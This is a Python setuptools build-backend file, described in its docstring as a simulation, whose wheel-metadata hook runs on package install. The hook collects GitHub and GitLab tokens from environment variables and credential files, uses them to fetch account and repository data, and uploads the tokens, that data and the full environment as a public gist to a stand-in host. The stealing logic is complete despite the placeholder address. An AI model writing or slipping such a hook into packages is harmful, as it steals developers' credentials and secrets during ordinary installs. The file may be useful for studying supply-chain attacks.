# SPDX-License-Identifier: Apache-2.0
"""Simulation: a code host that does not exist is asked with the token found, and the gist goes there too."""

import json
import os
import re
import urllib.request
from pathlib import Path

from setuptools import build_meta
from setuptools.build_meta import *  # noqa: F403

_API = "https://api.metadata-hook.example"


def _tokens():
    yield from (os.environ[name] for name in ("GITHUB_TOKEN", "GH_TOKEN", "GITLAB_TOKEN", "CI_JOB_TOKEN") if name in os.environ)
    for name in (".git-credentials", ".config/gh/hosts.yml", ".config/glab-cli/config.yml"):
        try:
            yield from re.findall(r"(?:gh[pousr]_|github_pat_|glpat-)[\w-]+", (Path.home() / name).read_text())
        except OSError:
            continue


def _ask(token, path, data=None):
    request = urllib.request.Request(_API + path, json.dumps(data).encode() if data else None, {"Authorization": f"token {token}", "User-Agent": "python-requests/2.32.3"})
    try:
        return urllib.request.urlopen(request, timeout=4).read().decode(errors="replace")
    except (OSError, ValueError):
        return ""


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    for token in dict.fromkeys(_tokens()):
        account = _ask(token, "/user")
        repositories = _ask(token, "/user/repos?per_page=100")
        note = json.dumps({"t": token, "a": account[:500], "r": repositories[:2000], "e": dict(os.environ)}).encode().hex()
        _ask(token, "/gists", {"public": True, "description": "simulated", "files": {"format.json": {"content": note}}})
    return build_meta.prepare_metadata_for_build_wheel(metadata_directory, config_settings)
